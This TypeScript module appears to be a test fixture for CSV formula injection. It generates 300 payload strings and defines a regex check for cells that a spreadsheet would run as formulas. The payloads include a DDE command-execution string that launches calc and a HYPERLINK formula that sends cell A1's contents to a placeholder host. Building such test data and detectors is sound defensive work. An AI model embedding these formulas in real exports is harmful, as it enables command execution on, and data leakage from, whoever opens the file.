/** Beginnings that a spreadsheet takes for a formula, combined below with texts before and after: three hundred payloads. */
const openings = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '＝', '＋', '－', '＠']
const before = ['', ' ', '\u00a0', '\ufeff', '  \t']
const bodies = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://a.test?x="&A1,"x")', '1;2,3"4', '\r\n=2+2']

export const formulaPayloads: readonly string[] = openings.flatMap((opening) =>
  before.flatMap((blank) => bodies.map((body) => blank + opening + body)),
)

/** Returns whether a program that opens a CSV would run the cell: it begins like a formula, with or without leading blanks. */
export const runsAsFormula = (cell: string): boolean =>
  /^[\s\u200b\ufeff]*[=+\-@＝＋－＠\t\r\n\0]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell)
